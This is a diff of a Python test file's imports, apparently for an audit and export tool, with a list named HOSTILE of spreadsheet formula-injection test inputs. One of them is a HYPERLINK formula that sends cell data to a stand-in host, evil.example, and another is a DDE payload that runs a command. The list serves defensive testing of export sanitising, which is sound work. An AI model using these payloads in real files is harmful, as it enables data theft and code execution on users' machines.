@@ -9,9 +9,9 @@ from pathlib import Path
 import pandas as pd
 import pytest
 
-from opus_nb.audit import AUDIT_FIELDS, AuditCsvNotWritten, AuditCsvSetAside, AuditLineUnreadable, AuditLog
-from opus_nb.destroy import destroy
-from opus_nb.exports import FORMULA_STARTS
+from opus_nb._exports import FORMULA_STARTS
+from opus_nb.jobs._audit import AUDIT_FIELDS, AuditCsvNotWritten, AuditCsvSetAside, AuditLineUnreadable, AuditLog
+from opus_nb.jobs._destroy import destroy
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]
 
